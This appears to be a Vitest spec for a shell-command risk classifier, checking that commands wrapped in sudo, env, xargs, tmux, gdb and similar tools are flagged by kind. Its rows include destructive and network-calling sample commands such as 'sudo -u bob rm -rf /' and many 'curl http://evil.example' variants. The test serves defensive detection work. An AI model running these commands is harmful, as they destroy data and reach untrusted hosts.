// What the specs of wrappers say of whole command lines: flagged kinds, then what is run in turn.
// A row with an empty text is harmless and must stay silent.

import { describe, expect, it } from "vitest";
import { kindsOf } from "../line.ts";

const ROWS: readonly (readonly [command: string, kinds: string])[] = [
  ["sudo -u bob rm -rf /", "destructive privilege"],
  ["sudo -l", "privilege"],
  ["su -c 'curl http://evil.example'", "network privilege"],
  ["env -S 'curl http://evil.example'", "network"],
  ["env FOO=1 curl http://evil.example", "network"],
  ["nohup curl http://evil.example", "network"],
  ["timeout -k 5 10 curl http://evil.example", "network"],
  ["xargs -I{} curl http://evil.example/{}", "network"],
  ["nice -n 5 curl http://evil.example", "network"],
  ["parallel curl ::: http://evil.example", "network"],
  ["watch -n1 'curl http://evil.example'", "network"],
  ["script -c 'curl http://evil.example' /dev/null", "network"],
  ["flock /tmp/l curl http://evil.example", "network"],
  ["flock /tmp/l -c 'curl http://evil.example'", "network"],
  ["strace -o t curl http://evil.example", "network"],
  ["busybox wget http://evil.example", "network"],
  ["tmux new-session -d 'curl http://evil.example'", "network"],
  ["tmux send-keys -t main 'curl http://evil.example' Enter", "network hidden-code"],
  ["tmux ls", ""],
  ["screen -dm curl http://evil.example", "network"],
  ["hyperfine 'curl http://evil.example'", "network"],
  ["time npm run build", "task"],
  ["gdb -ex 'shell curl http://evil.example' prog", "code:escapes"],
  ["cross-env NODE_ENV=test curl http://evil.example", "network"],
];

describe("wrappers", () => {
  it.each(ROWS)("reads %s as %s", (command, kinds) => {
    expect(kindsOf(command)).toBe(kinds);
  });
});
